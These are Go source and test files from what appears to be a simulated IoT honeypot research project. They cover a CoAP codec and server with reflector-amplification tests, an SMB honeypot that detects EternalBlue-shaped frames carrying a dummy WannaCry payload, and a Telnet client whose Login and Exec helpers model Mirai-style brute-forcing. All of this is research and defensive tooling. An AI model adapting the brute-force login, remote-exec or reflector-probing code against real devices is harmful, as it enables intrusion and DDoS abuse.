		Type:      Confirmable,
		Code:      CodeGET,
		MessageID: 0xBEEF,
		Token:     []byte{1, 2, 3},
	}
	m.SetPath("/.well-known/core")
	got, err := Unmarshal(m.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if got.Type != Confirmable || got.Code != CodeGET || got.MessageID != 0xBEEF {
		t.Fatalf("header: %+v", got)
	}
	if !bytes.Equal(got.Token, []byte{1, 2, 3}) {
		t.Fatalf("token: %v", got.Token)
	}
	if got.Path() != "/.well-known/core" {
		t.Fatalf("path: %q", got.Path())
	}
}

func TestMessagePayloadRoundTrip(t *testing.T) {
	m := &Message{Type: Acknowledgment, Code: CodeContent, MessageID: 1, Payload: []byte("</sensors>")}
	got, err := Unmarshal(m.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if string(got.Payload) != "</sensors>" {
		t.Fatalf("payload: %q", got.Payload)
	}
}

func TestOptionDeltaEncoding(t *testing.T) {
	// Options spanning the 13/269 extension boundaries.
	m := &Message{Type: Confirmable, Code: CodeGET, MessageID: 2, Options: []Option{
		{Number: 1, Value: []byte("a")},
		{Number: 14, Value: []byte("b")},                      // delta 13 → 1-byte extension
		{Number: 300, Value: []byte("c")},                     // delta 286 → 2-byte extension
		{Number: 2000, Value: bytes.Repeat([]byte("x"), 300)}, // long value
	}}
	got, err := Unmarshal(m.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Options) != 4 {
		t.Fatalf("options: %d", len(got.Options))
	}
	wantNums := []uint16{1, 14, 300, 2000}
	for i, o := range got.Options {
		if o.Number != wantNums[i] {
			t.Fatalf("option %d number %d, want %d", i, o.Number, wantNums[i])
		}
	}
	if len(got.Options[3].Value) != 300 {
		t.Fatalf("long option value %d bytes", len(got.Options[3].Value))
	}
}

func TestUnmarshalMalformed(t *testing.T) {
	cases := [][]byte{
		nil,
		{0x40},                         // short header
		{0x00, 0x01, 0x00, 0x01},       // wrong version
		{0x49, 0x01, 0x00, 0x01},       // TKL 9 > 8
		{0x41, 0x01, 0x00, 0x01},       // TKL 1, no token bytes
		{0x40, 0x01, 0x00, 0x01, 0xff}, // payload marker, no payload
		{0x40, 0x01, 0x00, 0x01, 0xf0}, // reserved option nibble 15
	}
	for i, raw := range cases {
		if _, err := Unmarshal(raw); err == nil {
			t.Errorf("case %d decoded", i)
		}
	}
}

func TestUnmarshalFuzzNoPanic(t *testing.T) {
	if err := quick.Check(func(raw []byte) bool {
		_, _ = Unmarshal(raw)
		return true
	}, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

func TestMarshalUnmarshalProperty(t *testing.T) {
	if err := quick.Check(func(mid uint16, token []byte, payload []byte) bool {
		if len(token) > 8 {
			token = token[:8]
		}
		m := &Message{Type: NonConfirmable, Code: CodeContent, MessageID: mid,
			Token: append([]byte(nil), token...), Payload: payload}
		got, err := Unmarshal(m.Marshal())
		if err != nil {
			return false
		}
		return got.MessageID == mid && bytes.Equal(got.Token, token) &&
			(len(payload) == 0) == (len(got.Payload) == 0) &&
			(len(payload) == 0 || bytes.Equal(got.Payload, payload))
	}, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func TestCodeString(t *testing.T) {
	cases := map[Code]string{
		CodeGET: "GET", CodePUT: "PUT", CodeContent: "2.05",
		CodeUnauthorized: "4.01", CodeNotFound: "4.04", CodeEmpty: "0.00",
	}
	for c, want := range cases {
		if c.String() != want {
			t.Errorf("%d.String() = %q, want %q", c, c.String(), want)
		}
	}
}

func testServer(policy AccessPolicy, events *[]RequestEvent) *Server {
	cfg := ServerConfig{
		Policy:    policy,
		Resources: DefaultSensorResources("smoke-sensor"),
	}
	if events != nil {
		cfg.OnEvent = func(ev RequestEvent) { *events = append(*events, ev) }
	}
	return NewServer(cfg)
}

var probeFrom = netsim.Endpoint{IP: netsim.MustParseIPv4("192.0.2.50"), Port: 40000}

func TestDiscoveryDisclosesResources(t *testing.T) {
	var events []RequestEvent
	s := testServer(AccessOpen, &events)
	c := NewClient(1)
	resp := s.HandleDatagram(probeFrom, c.DiscoveryProbe())
	if resp == nil {
		t.Fatal("no response")
	}
	body, disclosed, err := ParseDiscovery(resp)
	if err != nil || !disclosed {
		t.Fatalf("ParseDiscovery: %v, %v", disclosed, err)
	}
	if !strings.Contains(body, "</sensors/temperature>") {
		t.Fatalf("body %q", body)
	}
	if len(events) != 1 || events[0].Path != WellKnownCore || events[0].ResponseBytes == 0 {
		t.Fatalf("events: %+v", events)
	}
}

func TestAuthenticatedPolicyRejects(t *testing.T) {
	s := testServer(AccessAuthenticated, nil)
	c := NewClient(2)
	resp := s.HandleDatagram(probeFrom, c.DiscoveryProbe())
	m, err := Unmarshal(resp)
	if err != nil {
		t.Fatal(err)
	}
	if m.Code != CodeUnauthorized {
		t.Fatalf("code = %v", m.Code)
	}
	if _, disclosed, _ := ParseDiscovery(resp); disclosed {
		t.Fatal("authenticated policy disclosed resources")
	}
}

func TestGetResource(t *testing.T) {
	s := testServer(AccessOpen, nil)
	c := NewClient(3)
	m, err := Unmarshal(s.HandleDatagram(probeFrom, c.Get("/sensors/temperature")))
	if err != nil {
		t.Fatal(err)
	}
	if m.Code != CodeContent || string(m.Payload) != "21.5" {
		t.Fatalf("got %v %q", m.Code, m.Payload)
	}
	m, err = Unmarshal(s.HandleDatagram(probeFrom, c.Get("/nope")))
	if err != nil {
		t.Fatal(err)
	}
	if m.Code != CodeNotFound {
		t.Fatalf("missing resource code %v", m.Code)
	}
}

func TestPutPoisonsWritableResource(t *testing.T) {
	s := testServer(AccessOpen, nil)
	c := NewClient(4)
	m, err := Unmarshal(s.HandleDatagram(probeFrom, c.Put("/config/name", []byte("pwned"))))
	if err != nil {
		t.Fatal(err)
	}
	if m.Code != CodeChanged {
		t.Fatalf("PUT code %v", m.Code)
	}
	v, ok := s.Value("/config/name")
	if !ok || string(v) != "pwned" {
		t.Fatalf("value = %q, %v", v, ok)
	}
}

func TestPutForbiddenOnReadOnly(t *testing.T) {
	s := testServer(AccessOpen, nil)
	c := NewClient(5)
	m, err := Unmarshal(s.HandleDatagram(probeFrom, c.Put("/firmware/version", []byte("0"))))
	if err != nil {
		t.Fatal(err)
	}
	if m.Code != CodeForbidden {
		t.Fatalf("code %v", m.Code)
	}
	// Admin policy allows writing even read-only resources.
	sa := testServer(AccessAdmin, nil)
	m, err = Unmarshal(sa.HandleDatagram(probeFrom, c.Put("/firmware/version", []byte("0"))))
	if err != nil {
		t.Fatal(err)
	}
	if m.Code != CodeChanged {
		t.Fatalf("admin PUT code %v", m.Code)
	}
}

func TestDeleteRequiresAdmin(t *testing.T) {
	c := NewClient(6)
	del := func(s *Server) Code {
		m := &Message{Type: Confirmable, Code: CodeDELETE, MessageID: 9}
		m.SetPath("/sensors/humidity")
		resp, err := Unmarshal(s.HandleDatagram(probeFrom, m.Marshal()))
		if err != nil {
			t.Fatal(err)
		}
		return resp.Code
	}
	_ = c
	if code := del(testServer(AccessOpen, nil)); code != CodeForbidden {
		t.Fatalf("open DELETE code %v", code)
	}
	s := testServer(AccessAdmin, nil)
	if code := del(s); code != CodeDeleted {
		t.Fatalf("admin DELETE code %v", code)
	}
	if _, ok := s.Value("/sensors/humidity"); ok {
		t.Fatal("resource still present after DELETE")
	}
}

func TestGarbageDropped(t *testing.T) {
	s := testServer(AccessOpen, nil)
	if resp := s.HandleDatagram(probeFrom, []byte("GET / HTTP/1.1")); resp != nil {
		t.Fatal("garbage got a response")
	}
}

func TestBannerPrefixed(t *testing.T) {
	s := NewServer(ServerConfig{
		Policy:    AccessAdmin,
		Banner:    "220-Admin ",
		Resources: DefaultSensorResources("x"),
	})
	c := NewClient(7)
	body, _, err := ParseDiscovery(s.HandleDatagram(probeFrom, c.DiscoveryProbe()))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(body, "220-Admin ") {
		t.Fatalf("body %q", body)
	}
}

func TestAmplificationFactor(t *testing.T) {
	s := testServer(AccessOpen, nil)
	f := s.AmplificationFactor(21) // the discovery probe is ~21 bytes
	if f <= 1 {
		t.Fatalf("amplification %f, want > 1 (reflector behaviour)", f)
	}
	if s.AmplificationFactor(0) != 0 {
		t.Fatal("zero request bytes must not divide")
	}
}

func TestNonConfirmableEchoed(t *testing.T) {
	s := testServer(AccessOpen, nil)
	m := &Message{Type: NonConfirmable, Code: CodeGET, MessageID: 5}
	m.SetPath(WellKnownCore)
	resp, err := Unmarshal(s.HandleDatagram(probeFrom, m.Marshal()))
	if err != nil {
		t.Fatal(err)
	}
	if resp.Type != NonConfirmable {
		t.Fatalf("response type %v", resp.Type)
	}
}

func BenchmarkDiscoveryRoundTrip(b *testing.B) {
	s := testServer(AccessOpen, nil)
	c := NewClient(8)
	probe := c.DiscoveryProbe()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if resp := s.HandleDatagram(probeFrom, probe); resp == nil {
			b.Fatal("no response")
		}
	}
}
