// Package coap implements the Constrained Application Protocol (RFC 7252)
// message codec plus a resource server and probing client.
//
// CoAP runs over UDP on port 5683. The paper's probe queries
// "/.well-known/core" (Section 3.1.1); misconfigured devices answer with
// their full resource list ("Resource Disclosure", Table 3), and because an
// unauthenticated CoAP responder answers any source address it can be
// recruited as a DDoS reflector — the largest misconfiguration class in
// Table 5 (543,341 devices) after UPnP.
package coap

import (
	"errors"
	"fmt"
	"sort"
	"strings"
)

// Type is the CoAP message type.
type Type uint8

// CoAP message types (RFC 7252 §3).
const (
	Confirmable    Type = 0
	NonConfirmable Type = 1
	Acknowledgment Type = 2
	Reset          Type = 3
)

// Code is the CoAP request method or response code, packed as class.detail.
type Code uint8

// Method and response codes.
const (
	CodeEmpty  Code = 0
	CodeGET    Code = 1
	CodePOST   Code = 2
	CodePUT    Code = 3
	CodeDELETE Code = 4

	// Response codes: 0xVV where class = code >> 5.
	CodeCreated      Code = 2<<5 | 1 // 2.01
	CodeDeleted      Code = 2<<5 | 2 // 2.02
	CodeValid        Code = 2<<5 | 3 // 2.03
	CodeChanged      Code = 2<<5 | 4 // 2.04
	CodeContent      Code = 2<<5 | 5 // 2.05
	CodeBadRequest   Code = 4<<5 | 0 // 4.00
	CodeUnauthorized Code = 4<<5 | 1 // 4.01
	CodeForbidden    Code = 4<<5 | 3 // 4.03
	CodeNotFound     Code = 4<<5 | 4 // 4.04
	CodeNotAllowed   Code = 4<<5 | 5 // 4.05
)

// String renders the dotted class.detail form ("2.05").
func (c Code) String() string {
	if c == CodeEmpty {
		return "0.00"
	}
	if c>>5 == 0 {
		// Request methods.
		switch c {
		case CodeGET:
			return "GET"
		case CodePOST:
			return "POST"
		case CodePUT:
			return "PUT"
		case CodeDELETE:
			return "DELETE"
		}
	}
	return fmt.Sprintf("%d.%02d", c>>5, c&0x1f)
}

// Option numbers used by the study's probes and servers.
const (
	OptUriPath       = 11
	OptContentFormat = 12
	OptUriQuery      = 15
)

// Content formats.
const (
	FormatText     = 0
	FormatLinkList = 40 // application/link-format (RFC 6690)
)

// Option is one CoAP option (number + value).
type Option struct {
	Number uint16
	Value  []byte
}

// Message is a decoded CoAP message.
type Message struct {
	Type      Type
	Code      Code
	MessageID uint16
	Token     []byte
	Options   []Option
	Payload   []byte
}

// ErrMalformed is returned when a datagram is not valid CoAP.
var ErrMalformed = errors.New("coap: malformed message")

const version = 1

// Marshal serializes the message to its RFC 7252 wire form.
func (m *Message) Marshal() []byte {
	if len(m.Token) > 8 {
		m.Token = m.Token[:8]
	}
	out := []byte{
		version<<6 | byte(m.Type)<<4 | byte(len(m.Token)),
		byte(m.Code),
		byte(m.MessageID >> 8), byte(m.MessageID),
	}
	out = append(out, m.Token...)

	// Options must be encoded in ascending number order with delta encoding.
	opts := append([]Option(nil), m.Options...)
	sort.SliceStable(opts, func(i, j int) bool { return opts[i].Number < opts[j].Number })
	prev := uint16(0)
	for _, o := range opts {
		delta := o.Number - prev
		prev = o.Number
		out = appendOptionHeader(out, int(delta), len(o.Value))
		out = append(out, o.Value...)
	}
	if len(m.Payload) > 0 {
		out = append(out, 0xff)
		out = append(out, m.Payload...)
	}
	return out
}

// appendOptionHeader writes the delta/length nibbles with extended forms.
func appendOptionHeader(dst []byte, delta, length int) []byte {
	dn, de := nibble(delta)
	ln, le := nibble(length)
	dst = append(dst, byte(dn)<<4|byte(ln))
	dst = append(dst, de...)
	return append(dst, le...)
}

func nibble(v int) (int, []byte) {
	switch {
	case v < 13:
		return v, nil
	case v < 269:
		return 13, []byte{byte(v - 13)}
	default:
		return 14, []byte{byte((v - 269) >> 8), byte(v - 269)}
	}
}

// Unmarshal parses a CoAP datagram.
func Unmarshal(raw []byte) (*Message, error) {
	if len(raw) < 4 {
		return nil, ErrMalformed
	}
	if raw[0]>>6 != version {
		return nil, ErrMalformed
	}
	tkl := int(raw[0] & 0x0f)
	if tkl > 8 {
		return nil, ErrMalformed
	}
	m := &Message{
		Type:      Type(raw[0] >> 4 & 0x03),
		Code:      Code(raw[1]),
		MessageID: uint16(raw[2])<<8 | uint16(raw[3]),
	}
	p := raw[4:]
	if len(p) < tkl {
		return nil, ErrMalformed
	}
	m.Token = append([]byte(nil), p[:tkl]...)
	p = p[tkl:]

	num := uint16(0)
	for len(p) > 0 {
		if p[0] == 0xff {
			if len(p) == 1 {
				return nil, ErrMalformed // payload marker with no payload
			}
			m.Payload = append([]byte(nil), p[1:]...)
			return m, nil
		}
		dn := int(p[0] >> 4)
		ln := int(p[0] & 0x0f)
		p = p[1:]
		var delta, length int
		var err error
		if delta, p, err = extendNibble(dn, p); err != nil {
			return nil, err
		}
		if length, p, err = extendNibble(ln, p); err != nil {
			return nil, err
		}
		if len(p) < length {
			return nil, ErrMalformed
		}
		num += uint16(delta)
		m.Options = append(m.Options, Option{Number: num, Value: append([]byte(nil), p[:length]...)})
		p = p[length:]
	}
	return m, nil
}

func extendNibble(n int, p []byte) (int, []byte, error) {
	switch n {
	case 13:
		if len(p) < 1 {
			return 0, nil, ErrMalformed
		}
		return int(p[0]) + 13, p[1:], nil
	case 14:
		if len(p) < 2 {
			return 0, nil, ErrMalformed
		}
		return int(p[0])<<8 + int(p[1]) + 269, p[2:], nil
	case 15:
		return 0, nil, ErrMalformed // reserved
	default:
		return n, p, nil
	}
}

// Path joins the Uri-Path options into "/a/b/c".
func (m *Message) Path() string {
	var segs []string
	for _, o := range m.Options {
		if o.Number == OptUriPath {
			segs = append(segs, string(o.Value))
		}
	}
	return "/" + strings.Join(segs, "/")
}

// SetPath replaces the Uri-Path options from a "/a/b/c" path.
func (m *Message) SetPath(path string) {
	kept := m.Options[:0]
	for _, o := range m.Options {
		if o.Number != OptUriPath {
			kept = append(kept, o)
		}
	}
	m.Options = kept
	for _, seg := range strings.Split(strings.TrimPrefix(path, "/"), "/") {
		if seg != "" {
			m.Options = append(m.Options, Option{Number: OptUriPath, Value: []byte(seg)})
		}
	}
}

// WellKnownCore is the discovery path every probe in the study queries.
const WellKnownCore = "/.well-known/core"
