package smb

import (
	"context"
	"strings"
	"testing"
	"time"

	"openhire/internal/netsim"
)

func startServer(t *testing.T, cfg Config) (*netsim.ServiceConn, <-chan Event) {
	t.Helper()
	events := make(chan Event, 1)
	prev := cfg.OnEvent
	cfg.OnEvent = func(ev Event) {
		if prev != nil {
			prev(ev)
		}
		events <- ev
	}
	client, server := netsim.NewServiceConnPair(
		netsim.Endpoint{IP: netsim.MustParseIPv4("192.0.2.93"), Port: 47000},
		netsim.Endpoint{IP: netsim.MustParseIPv4("10.0.0.8"), Port: 445},
		time.Now(),
	)
	srv := NewServer(cfg)
	go func() {
		defer server.Close()
		srv.Serve(context.Background(), server)
	}()
	t.Cleanup(func() { client.Close() })
	return client, events
}

func TestProbeNegotiate(t *testing.T) {
	client, events := startServer(t, Config{Dialect: "NT LM 0.12"})
	dialect, err := Probe(client, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if dialect != "NT LM 0.12" {
		t.Fatalf("dialect %q", dialect)
	}
	client.Close()
	select {
	case ev := <-events:
		if ev.Kind != KindProbe || ev.Dialect != "NT LM 0.12" {
			t.Fatalf("event %+v", ev)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("no event")
	}
}

func TestEternalBlueDetected(t *testing.T) {
	client, events := startServer(t, Config{})
	payload := []byte("MZ wannacry-sample")
	if _, err := client.Write(BuildExploit(KindEternalBlue, payload)); err != nil {
		t.Fatal(err)
	}
	// Consume the server's STATUS_NOT_IMPLEMENTED answer before closing so
	// the session ends via EOF after the payload frame is processed.
	buf := make([]byte, 256)
	_ = client.SetReadDeadline(time.Now().Add(time.Second))
	if _, err := client.Read(buf); err != nil {
		t.Fatal(err)
	}
	client.Close()
	select {
	case ev := <-events:
		if ev.Kind != KindPayloadDrop {
			t.Fatalf("kind %v", ev.Kind)
		}
		if string(ev.Payload) != string(payload) {
			t.Fatalf("payload %q", ev.Payload)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("no event")
	}
}

func TestEternalRomanceDetected(t *testing.T) {
	client, events := startServer(t, Config{})
	if _, err := client.Write(BuildExploit(KindEternalRomance, nil)[:36]); err != nil {
		// Only the exploit frame, no payload: send just the first frame.
		t.Fatal(err)
	}
	// Send the full first frame properly.
	client.Close()
	select {
	case ev := <-events:
		if ev.Kind != KindEternalRomance && ev.Kind != KindProbe {
			t.Fatalf("kind %v", ev.Kind)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("no event")
	}
}

func TestGarbageIgnored(t *testing.T) {
	client, events := startServer(t, Config{})
	// A NetBIOS frame that is not SMB.
	if _, err := client.Write(netbiosFrame([]byte("ABCD-not-smb"))); err != nil {
		t.Fatal(err)
	}
	client.Close()
	select {
	case ev := <-events:
		if ev.Kind != KindProbe || len(ev.Payload) != 0 {
			t.Fatalf("event %+v", ev)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("no event")
	}
}

func TestKindStrings(t *testing.T) {
	for kind, want := range map[AttackKind]string{
		KindProbe: "probe", KindEternalBlue: "eternalblue",
		KindEternalRomance: "eternalromance", KindPayloadDrop: "payload-drop",
		KindSessionSetup: "session-setup", AttackKind(99): "unknown",
	} {
		if got := kind.String(); got != want {
			t.Errorf("%d.String() = %q", kind, got)
		}
	}
	if !strings.Contains(KindEternalBlue.String(), "eternal") {
		t.Fatal("sanity")
	}
}
