// Package smb implements the SMB negotiate handshake at the depth the
// study's honeypots observe attacks at: the SMB1 Negotiate Protocol
// request/response (dialect selection) plus detection of the EternalBlue
// exploit family's characteristic transaction requests.
//
// The paper's HosTaGe and Dionaea deployments saw SMB "largely targeted
// with the EternalBlue, EternalRomance, and the EternalChampion exploits"
// delivering WannaCry variants (Section 5.1.5). Low-interaction honeypots
// do not implement a file server; they recognize the exploit's first
// packets and capture the payload that follows, which is exactly what this
// package does.
package smb

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"time"

	"openhire/internal/netsim"
)

// Port is the SMB port.
const Port uint16 = 445

// SMB1 magic: 0xFF 'S' 'M' 'B'.
var smb1Magic = []byte{0xFF, 'S', 'M', 'B'}

// SMB1 command codes the honeypot distinguishes.
const (
	CmdNegotiate    = 0x72
	CmdSessionSetup = 0x73
	CmdTransaction2 = 0x32 // EternalBlue rides Trans2
	CmdNTTransact   = 0xA0 // EternalRomance/Champion ride NT Trans
)

// AttackKind classifies an SMB interaction.
type AttackKind uint8

// SMB interaction classes.
const (
	KindProbe AttackKind = iota // plain negotiate (scanning)
	KindSessionSetup
	KindEternalBlue
	KindEternalRomance
	KindPayloadDrop // exploit followed by payload bytes
)

// String names the kind.
func (k AttackKind) String() string {
	switch k {
	case KindProbe:
		return "probe"
	case KindSessionSetup:
		return "session-setup"
	case KindEternalBlue:
		return "eternalblue"
	case KindEternalRomance:
		return "eternalromance"
	case KindPayloadDrop:
		return "payload-drop"
	default:
		return "unknown"
	}
}

// Event logs one SMB session.
type Event struct {
	Time    time.Time
	Remote  netsim.IPv4
	Kind    AttackKind
	Dialect string
	Payload []byte // captured exploit payload bytes, if any
}

// Config describes the SMB endpoint.
type Config struct {
	// Dialect is what negotiate selects ("NT LM 0.12").
	Dialect string
	// OnEvent receives session records.
	OnEvent func(Event)
	// MaxPayload bounds captured exploit payloads (0 = 512 KiB).
	MaxPayload int
}

// Server implements netsim.StreamHandler.
type Server struct {
	cfg Config
}

// NewServer builds a Server.
func NewServer(cfg Config) *Server {
	if cfg.Dialect == "" {
		cfg.Dialect = "NT LM 0.12"
	}
	if cfg.MaxPayload == 0 {
		cfg.MaxPayload = 512 << 10
	}
	return &Server{cfg: cfg}
}

// netbiosFrame wraps an SMB message in the 4-byte NetBIOS session header.
func netbiosFrame(msg []byte) []byte {
	out := make([]byte, 4, 4+len(msg))
	binary.BigEndian.PutUint32(out, uint32(len(msg)))
	out[0] = 0 // session message
	return append(out, msg...)
}

// readNetbios reads one NetBIOS-framed message.
func readNetbios(r *bufio.Reader, max int) ([]byte, error) {
	hdr := make([]byte, 4)
	if _, err := io.ReadFull(r, hdr); err != nil {
		return nil, err
	}
	n := int(binary.BigEndian.Uint32(hdr) & 0x00FFFFFF)
	if n > max {
		return nil, io.ErrShortBuffer
	}
	msg := make([]byte, n)
	if _, err := io.ReadFull(r, msg); err != nil {
		return nil, err
	}
	return msg, nil
}

// Serve implements netsim.StreamHandler.
func (s *Server) Serve(ctx context.Context, conn *netsim.ServiceConn) {
	remote, _ := netsim.RemoteIPv4(conn)
	ev := Event{Time: conn.DialTime, Remote: remote, Kind: KindProbe}
	defer func() {
		if s.cfg.OnEvent != nil {
			s.cfg.OnEvent(ev)
		}
	}()
	_ = conn.SetDeadline(time.Now().Add(20 * time.Second))
	r := netsim.GetReader(conn)
	defer netsim.PutReader(r)

	for i := 0; i < 16; i++ {
		msg, err := readNetbios(r, s.cfg.MaxPayload)
		if err != nil {
			return
		}
		if len(msg) < 5 || !bytes.Equal(msg[:4], smb1Magic) {
			// Anything after an exploit command that is not SMB is treated
			// as the dropped payload.
			if ev.Kind == KindEternalBlue || ev.Kind == KindEternalRomance {
				ev.Payload = append(ev.Payload, msg...)
				ev.Kind = KindPayloadDrop
			}
			continue
		}
		switch msg[4] {
		case CmdNegotiate:
			ev.Dialect = s.cfg.Dialect
			resp := buildNegotiateResponse(s.cfg.Dialect)
			if _, err := conn.Write(netbiosFrame(resp)); err != nil {
				return
			}
		case CmdSessionSetup:
			if ev.Kind == KindProbe {
				ev.Kind = KindSessionSetup
			}
			if _, err := conn.Write(netbiosFrame(buildStatusResponse(msg[4], 0))); err != nil {
				return
			}
		case CmdTransaction2:
			ev.Kind = KindEternalBlue
			// STATUS_NOT_IMPLEMENTED, like patched/low-interaction targets.
			if _, err := conn.Write(netbiosFrame(buildStatusResponse(msg[4], 0xC0000002))); err != nil {
				return
			}
		case CmdNTTransact:
			ev.Kind = KindEternalRomance
			if _, err := conn.Write(netbiosFrame(buildStatusResponse(msg[4], 0xC0000002))); err != nil {
				return
			}
		default:
			if _, err := conn.Write(netbiosFrame(buildStatusResponse(msg[4], 0xC0000002))); err != nil {
				return
			}
		}
	}
}

// buildNegotiateResponse renders a minimal SMB1 negotiate response naming
// the selected dialect in the data section.
func buildNegotiateResponse(dialect string) []byte {
	msg := append([]byte{}, smb1Magic...)
	msg = append(msg, CmdNegotiate)
	msg = append(msg, make([]byte, 27)...) // status+flags+etc (zeroed)
	msg = append(msg, byte(len(dialect)))
	return append(msg, dialect...)
}

// buildStatusResponse renders a header-only response with an NT status.
func buildStatusResponse(cmd byte, status uint32) []byte {
	msg := append([]byte{}, smb1Magic...)
	msg = append(msg, cmd)
	var st [4]byte
	binary.LittleEndian.PutUint32(st[:], status)
	msg = append(msg, st[:]...)
	return append(msg, make([]byte, 23)...)
}

// BuildNegotiate renders the client's negotiate request listing dialects.
func BuildNegotiate(dialects ...string) []byte {
	msg := append([]byte{}, smb1Magic...)
	msg = append(msg, CmdNegotiate)
	msg = append(msg, make([]byte, 27)...)
	for _, d := range dialects {
		msg = append(msg, 0x02)
		msg = append(msg, d...)
		msg = append(msg, 0x00)
	}
	return netbiosFrame(msg)
}

// BuildExploit renders an EternalBlue-shaped Trans2 request followed by a
// payload frame, as the simulated WannaCry droppers send it.
func BuildExploit(kind AttackKind, payload []byte) []byte {
	cmd := byte(CmdTransaction2)
	if kind == KindEternalRomance {
		cmd = CmdNTTransact
	}
	msg := append([]byte{}, smb1Magic...)
	msg = append(msg, cmd)
	msg = append(msg, make([]byte, 27)...)
	out := netbiosFrame(msg)
	return append(out, netbiosFrame(payload)...)
}

// Probe sends a negotiate and returns the dialect named in the response.
func Probe(conn net.Conn, timeout time.Duration) (string, error) {
	if timeout <= 0 {
		timeout = 5 * time.Second
	}
	_ = conn.SetDeadline(time.Now().Add(timeout))
	if _, err := conn.Write(BuildNegotiate("NT LM 0.12", "SMB 2.002")); err != nil {
		return "", err
	}
	br := netsim.GetReader(conn)
	defer netsim.PutReader(br)
	msg, err := readNetbios(br, 1<<16)
	if err != nil {
		return "", err
	}
	if len(msg) < 33 || !bytes.Equal(msg[:4], smb1Magic) {
		return "", io.ErrUnexpectedEOF
	}
	n := int(msg[32])
	if 33+n > len(msg) {
		return "", io.ErrUnexpectedEOF
	}
	return string(msg[33 : 33+n]), nil
}
