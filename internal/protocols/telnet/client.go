package telnet

import (
	"context"
	"io"
	"net"
	"time"

	"openhire/internal/netsim"
)

// Banner is the result of a passive Telnet banner grab: the negotiation
// bytes and the visible text the server volunteered before any input.
type Banner struct {
	// Raw is everything the server sent, negotiation included, exactly as
	// it appeared on the wire. Honeypot fingerprints match against Raw.
	Raw []byte
	// Text is Raw with IAC sequences stripped: the human-visible banner.
	Text string
	// Commands are the parsed negotiation commands the server issued.
	Commands []Command
}

// Grab performs the paper's Telnet probe over an established connection:
// read whatever the server volunteers, passively refuse every negotiation,
// and return the banner. It never authenticates (Section 2.1: "unlike
// Markowsky et al. we do not try to connect to the devices after the
// scanning process").
func Grab(ctx context.Context, conn net.Conn, readWindow time.Duration) (Banner, error) {
	if readWindow <= 0 {
		readWindow = 2 * time.Second
	}
	deadline := time.Now().Add(readWindow)
	_ = conn.SetReadDeadline(deadline)

	// After the first bytes arrive, a short idle gap means the banner is
	// complete — waiting out the full window would only slow the scan.
	idle := readWindow / 6
	if idle < 5*time.Millisecond {
		idle = 5 * time.Millisecond
	}

	var raw []byte
	scratch := netsim.GetScratch()
	defer netsim.PutScratch(scratch)
	buf := *scratch
	for len(raw) < 64<<10 {
		if ctx.Err() != nil {
			break
		}
		n, err := conn.Read(buf)
		if n > 0 {
			raw = append(raw, buf[:n]...)
			// Answer negotiation so chatty servers progress to their banner.
			_, cmds := SplitStream(buf[:n])
			if reply := RefuseAll(cmds); len(reply) > 0 {
				_ = conn.SetWriteDeadline(deadline)
				if _, werr := conn.Write(reply); werr != nil {
					break
				}
			}
			// A banner ending in a login or shell prompt means the server is
			// waiting for input: the grab is complete, no need to sit out the
			// idle window. This is the dominant case across the device
			// population and is what keeps a sweep's per-host cost flat.
			if data, _ := SplitStream(raw); bannerComplete(data) {
				break
			}
			_ = conn.SetReadDeadline(time.Now().Add(idle))
			continue
		}
		if err != nil {
			break // deadline, EOF, or reset: the banner is whatever we got
		}
	}
	data, cmds := SplitStream(raw)
	b := Banner{Raw: raw, Text: string(data), Commands: cmds}
	if len(raw) == 0 {
		return b, io.ErrUnexpectedEOF
	}
	return b, nil
}

// bannerPrompts are the terminal strings after which a Telnet service waits
// for input. A grab that sees one can return immediately instead of waiting
// for the idle gap; banners without a recognizable prompt still complete
// via the idle timeout, so detection is an optimization, never a filter.
var bannerPrompts = []string{"ogin: ", "ogin:", "assword: ", "assword:", "$ ", "# ", "> "}

// bannerComplete reports whether the decoded banner ends in a prompt.
func bannerComplete(data []byte) bool {
	s := string(data)
	for _, p := range bannerPrompts {
		if len(s) >= len(p) && s[len(s)-len(p):] == p {
			return true
		}
	}
	return false
}

// Login drives a full authentication attempt: wait for a login prompt,
// submit credentials, and report whether a shell prompt came back. Attack
// actors (Mirai-style bruteforcers) use this; the scanner does not.
func Login(ctx context.Context, conn net.Conn, username, password string, timeout time.Duration) (bool, error) {
	if timeout <= 0 {
		timeout = 5 * time.Second
	}
	_ = conn.SetDeadline(time.Now().Add(timeout))

	if err := awaitSubstring(ctx, conn, "login:", "Login:"); err != nil {
		return false, err
	}
	if _, err := conn.Write(append(EscapeData([]byte(username)), '\r', '\n')); err != nil {
		return false, err
	}
	if err := awaitSubstring(ctx, conn, "assword:"); err != nil {
		return false, err
	}
	if _, err := conn.Write(append(EscapeData([]byte(password)), '\r', '\n')); err != nil {
		return false, err
	}
	// Success is a shell prompt; failure is "Login incorrect" or EOF.
	// Watching for the rejection text matters: without it a failed attempt
	// blocks until the deadline instead of returning immediately.
	matched, err := awaitAny(ctx, conn, "$", "#", ">", "incorrect", "denied")
	if err != nil {
		return false, nil //nolint:nilerr // auth failure is a result, not an error
	}
	return matched != "incorrect" && matched != "denied", nil
}

// Exec sends a shell command on an authenticated session and collects output
// until the next prompt or timeout.
func Exec(conn net.Conn, cmd string, timeout time.Duration) (string, error) {
	if timeout <= 0 {
		timeout = 3 * time.Second
	}
	_ = conn.SetDeadline(time.Now().Add(timeout))
	if _, err := conn.Write(append(EscapeData([]byte(cmd)), '\r', '\n')); err != nil {
		return "", err
	}
	var out []byte
	scratch := netsim.GetScratch()
	defer netsim.PutScratch(scratch)
	buf := (*scratch)[:1024] // read in the same chunk sizes as before pooling
	for {
		n, err := conn.Read(buf)
		if n > 0 {
			data, _ := SplitStream(buf[:n])
			out = append(out, data...)
			if containsAny(out, "$ ", "# ", "> ") {
				break
			}
		}
		if err != nil {
			break
		}
	}
	return string(out), nil
}

// awaitSubstring reads until any needle appears in the decoded stream.
